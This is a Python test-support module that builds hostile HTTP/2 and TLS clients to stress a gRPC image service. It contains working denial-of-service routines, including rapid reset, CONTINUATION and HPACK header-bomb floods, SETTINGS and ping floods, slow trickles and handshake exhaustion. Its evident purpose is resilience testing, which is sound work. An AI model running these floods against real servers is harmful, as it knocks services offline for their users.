"""Peers that mean harm, over bare sockets: what they send, all of it bounded in number and time.

An attack returns when it has sent what it has, or was cut off. What becomes of the service, tests look at themselves.
"""

import random
import socket
import ssl
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import ExitStack, contextmanager, suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
CANCEL = (8).to_bytes(4, "big")

#: How long an attack waits for a server that no longer takes what it sends.
_PATIENCE_SECONDS = 2

Attack = Callable[[str, int], None]


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def settings(**values: int) -> bytes:
    """A SETTINGS frame: of the size of the table of headers, and the window of a stream."""
    numbers = {"table": 1, "window": 4}
    return frame(
        SETTINGS,
        payload=b"".join(numbers[key].to_bytes(2, "big") + value.to_bytes(4, "big") for key, value in values.items()),
    )


def header_block(pairs: Iterable[tuple[str, str]]) -> bytes:
    """Headers as HPACK writes them, word for word: nothing of them stays in a table."""
    return b"".join(b"\x10" + _text(name) + _text(value) for name, value in pairs)


def _text(text: str) -> bytes:
    return _number(len(text), 7) + text.encode()


def _number(value: int, bits: int) -> bytes:
    """A number of HPACK whose first byte has so many bits for it."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((value,))
    rest = value - most
    encoded = bytearray((most,))
    while rest >= 128:
        encoded.append(rest % 128 + 128)
        rest //= 128
    return bytes((*encoded, rest))


def call_headers(path: str, token: str = "") -> bytes:
    """The headers of a call."""
    pairs = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    credentials = [("authorization", f"Bearer {token}")] if token else []
    return header_block([*pairs, ("te", "trailers"), ("content-type", "application/grpc"), *credentials])


def message(data: bytes) -> bytes:
    """A request as gRPC puts it into DATA frames."""
    return bytes(1) + len(data).to_bytes(4, "big") + data


CALL = call_headers("/cunho.v1.ImageService/GetImage")


@contextmanager
def connected(address: str) -> Iterator[socket.socket]:
    """A connection that is given up when the server takes nothing more."""
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), _PATIENCE_SECONDS) as connection:
        yield connection


def until_closed(connection: socket.socket) -> None:
    """Reads until the server closes the connection, or says nothing more."""
    with suppress(OSError):
        while connection.recv(1 << 16):
            pass


def _flood(address: str, first: bytes, each: Callable[[int], bytes], number: int) -> None:
    """Sends so many frames on one connection, and reads nothing before the end."""
    with connected(address) as connection, suppress(OSError):
        connection.sendall(PREFACE + first)
        for start in range(0, number, 100):
            connection.sendall(b"".join(map(each, range(start, min(start + 100, number)))))
        until_closed(connection)


# --- what is no HTTP/2


def garbage(address: str, number: int) -> None:
    """Bytes that mean nothing, from so many connections: at once, after the preface, and after a sensible frame."""
    chance = random.Random(7)
    for index in range(number):
        with connected(address) as connection, suppress(OSError):
            begun = (b"", PREFACE, PREFACE + settings())[index % 3]
            connection.sendall(begun + chance.randbytes(4096))


def http_1(address: str, number: int) -> None:
    """Requests of a browser."""
    for _ in range(number):
        with connected(address) as connection, suppress(OSError):
            connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: h2c\r\n\r\n")
            until_closed(connection)


# --- what is too much of something


def rapid_reset(address: str, number: int) -> None:
    """Calls that are taken back as soon as they are made."""
    reset = frame(RST_STREAM, 0, 1, CANCEL)

    def each(index: int) -> bytes:
        stream = 2 * index + 1
        return frame(HEADERS, END_HEADERS, stream, CALL) + reset[:5] + stream.to_bytes(4, "big") + CANCEL

    _flood(address, settings(), each, number)


def made_resets(address: str, number: int) -> None:
    """Calls that the server itself has to take back, since a frame of theirs is wrong."""

    def each(index: int) -> bytes:
        stream = 2 * index + 1
        return frame(HEADERS, END_HEADERS, stream, CALL) + frame(WINDOW_UPDATE, 0, stream, bytes(4))

    _flood(address, settings(), each, number)


def pings(address: str, number: int) -> None:
    """Pings, whose answers nobody reads."""
    _flood(address, settings(), lambda index: frame(PING, payload=index.to_bytes(8, "big")), number)


def settings_flood(address: str, number: int) -> None:
    """Settings, each of which wants to be acknowledged."""
    _flood(address, settings(), lambda index: settings(table=index % 4096, window=65535 + index), number)


def priorities(address: str, number: int) -> None:
    """Priorities of streams that there are not."""
    _flood(address, settings(), lambda index: frame(PRIORITY, 0, 2 * index + 1, bytes(4) + b"\x10"), number)


def empty_data(address: str, number: int) -> None:
    """Frames of a request that hold nothing."""
    first = settings() + frame(HEADERS, END_HEADERS, 1, CALL)
    _flood(address, first, lambda index: frame(DATA, 0, 1), number)


def huge_headers(address: str, number: int) -> None:
    """Calls with a header of a mebibyte each."""
    block = CALL + header_block([("large", "x" * (1 << 20))])
    parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
    for _ in range(number):
        with connected(address) as connection, suppress(OSError):
            connection.sendall(PREFACE + settings() + frame(HEADERS, 0, 1, parts[0]))
            for part in parts[1:-1]:
                connection.sendall(frame(CONTINUATION, 0, 1, part))
            connection.sendall(frame(CONTINUATION, END_HEADERS, 1, parts[-1]))
            until_closed(connection)


def continuations(address: str, number: int) -> None:
    """Headers that never end, though there is little in each frame."""
    first = settings() + frame(HEADERS, 0, 1, CALL)
    _flood(address, first, lambda index: frame(CONTINUATION, 0, 1, header_block([(f"a{index}", "x" * 100)])), number)


def header_bomb(address: str, number: int) -> None:
    """Calls that name one large header of the table thousands of times, by a byte each."""
    kept = b"\x40" + _text("bomb") + _text("x" * 4000)
    named = b"\xbe" * 15000  # the newest entry of the table
    calls = [frame(HEADERS, END_HEADERS, 2 * index + 3, CALL + named) for index in range(number)]
    _flood(address, settings() + frame(HEADERS, END_HEADERS, 1, CALL + kept), lambda index: calls[index], number)


# --- what takes its time


def idle(address: str, number: int) -> None:
    """Connections on which nothing is said, and such on which nothing is said any more."""
    with ExitStack() as stack:
        for index in range(number):
            connection = stack.enter_context(connected(address))
            if index % 2:
                connection.sendall(PREFACE + settings())
        time.sleep(_PATIENCE_SECONDS)


def unclosed_streams(address: str, number: int) -> None:
    """Calls that are begun and never made, a hundred on each connection."""
    streams = b"".join(frame(HEADERS, END_HEADERS, 2 * index + 1, CALL) for index in range(100))
    _held(address, settings() + streams, number // 100)


def trickle(address: str, number: int) -> None:
    """A call that comes byte by byte."""
    with connected(address) as connection, suppress(OSError):
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        body = message(bytes(number))
        for byte in PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, CALL) + frame(DATA, 0, 1, body):
            connection.sendall(bytes((byte,)))
            time.sleep(0.001)


def closed_windows(token: str) -> Attack:
    """Calls whose answers are large and never read: the window of each stream is closed."""

    def attack(address: str, number: int) -> None:
        path = "/cunho.v1.ImageService/ListImages"
        headers, body = call_headers(path, token), message(b"\x0a\x0cap-guangzhou")
        calls = b"".join(
            frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, body)
            for stream in range(1, 200, 2)
        )
        _held(address, settings(window=0) + calls, number // 100)

    return attack


def _held(address: str, sent: bytes, connections: int) -> None:
    """Sends that on so many connections, and keeps them for a while without reading."""
    with ExitStack() as stack:
        for _ in range(connections):
            connection = stack.enter_context(connected(address))
            with suppress(OSError):
                connection.sendall(PREFACE + sent)
        time.sleep(_PATIENCE_SECONDS)


# --- TLS


def half_handshakes(address: str, number: int) -> None:
    """Handshakes of TLS that stop after the first word, and such that do not even begin."""
    with ExitStack() as stack:
        for index in range(number):
            connection = stack.enter_context(connected(address))
            if index % 2:
                connection.sendall(_client_hello())
        time.sleep(_PATIENCE_SECONDS)


def handshakes(address: str, number: int) -> None:
    """Handshakes that are made to the end, one after the other, for nothing."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    for _ in range(number):
        with connected(address) as connection, suppress(OSError), context.wrap_socket(connection):
            pass


def _client_hello() -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    half = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):
        half.do_handshake()
    return outgoing.read()
